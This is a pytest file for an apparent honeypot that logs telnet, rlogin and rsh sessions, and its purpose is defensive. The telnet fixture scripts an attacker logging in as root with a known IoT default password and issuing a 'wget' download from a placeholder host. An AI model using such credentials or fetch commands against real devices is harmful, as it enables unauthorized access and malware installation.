# SPDX-License-Identifier: Apache-2.0
"""Telnet, rlogin and rsh, as `fishbowl replay` records them: lines, commands, logins."""
import os
import struct

import pytest

import packets as p
from fishbowl import PCAPS, bodies, replay_packets

RSH = os.path.join(PCAPS, 'rsh.pcap')

TELNET = [
    (1, b'\xff\xfd\x01\xff\xfb\x03'), (0, b'\xff\xfb\x01\xff\xfd\x03'), (1, b'\r\nbox login: '), (0, b'root\r\0'),
    (1, b'root\r\nPassword: '), (0, b'wrong\r\0'), (1, b'\r\nLogin incorrect\r\nbox login: '), (0, b'root\r\0'),
    (1, b'root\r\nPassword: '), (0, b'xc3511\r\0'), (1, b'\r\n~ # '), (0, b'wget http://x/y\x7fz\r\0'),
    (1, b'wget http://x/z\r\nno route\r\n~ # '), (0, b'exit\r\0'),
]
RLOGIN = [
    (0, b'\0'), (0, b'eve\0root\0xterm/38400\0'), (1, b'\0'), (1, b'# '), (0, b'id\r'), (1, b'id\r\nuid=0\r\n# '),
]


def test_telnet(tmp_path):
    records = replay_packets(tmp_path, p.talk(TELNET, 40000, 2323))
    assert bodies(records, 'login') == [
        {'user': 'root', 'password': 'wrong', 'result': 'failure'},
        {'user': 'root', 'password': 'xc3511', 'result': 'success'},
    ]
    assert bodies(records, 'telnet') == [
        {'command': 'wget http://x/z', 'output': 'no route\r\n~ #'},
        {'command': 'exit', 'output': ''},
    ]
    assert {r['app_proto'] for r in records if r['event_type'] == 'flow'} == {'telnet'}


def test_rlogin(tmp_path):
    records = replay_packets(tmp_path, p.talk(RLOGIN, 1022, 5130))
    assert bodies(records, 'login') == [{'method': 'rhosts', 'user': 'root', 'result': 'success'}]
    assert bodies(records, 'rlogin') == [{'command': 'id', 'output': 'uid=0\r\n#'}]


def moved(data):
    """The packets of a capture of one host that talks to itself, as of two."""
    at = 24
    while at < len(data):
        size, = struct.unpack_from('<I', data, at + 8)
        segment = data[at + 16 + 14 + 20:at + 16 + size]
        to_server = segment[2:4] == struct.pack('>H', 514)
        ends = (p.ATTACKER, p.HONEYPOT) if to_server else (p.HONEYPOT, p.ATTACKER)
        yield p.ip(*ends, 6, p.summed(*ends, 6, segment[:16] + b'\0\0' + segment[18:], 16))
        at += 16 + size


@pytest.mark.skipif(not os.path.exists(RSH), reason='no captures: ' + PCAPS + ' is absent')
def test_rsh(tmp_path):
    with open(RSH, 'rb') as f:
        records = replay_packets(tmp_path, moved(f.read()))
    assert bodies(records, 'rsh') == [
        {'client_user': 'lns', 'server_user': 'root', 'command': 'mkdir testdir', 'answer': 'Password incorrect.\n'},
        {'client_user': 'lns', 'server_user': 'someuser', 'command': 'some random command',
         'answer': 'Login incorrect.\n'},
    ]
    assert bodies(records, 'login') == [
        {'method': 'rhosts', 'user': 'root', 'result': 'failure'},
        {'method': 'rhosts', 'user': 'someuser', 'result': 'failure'},
    ]
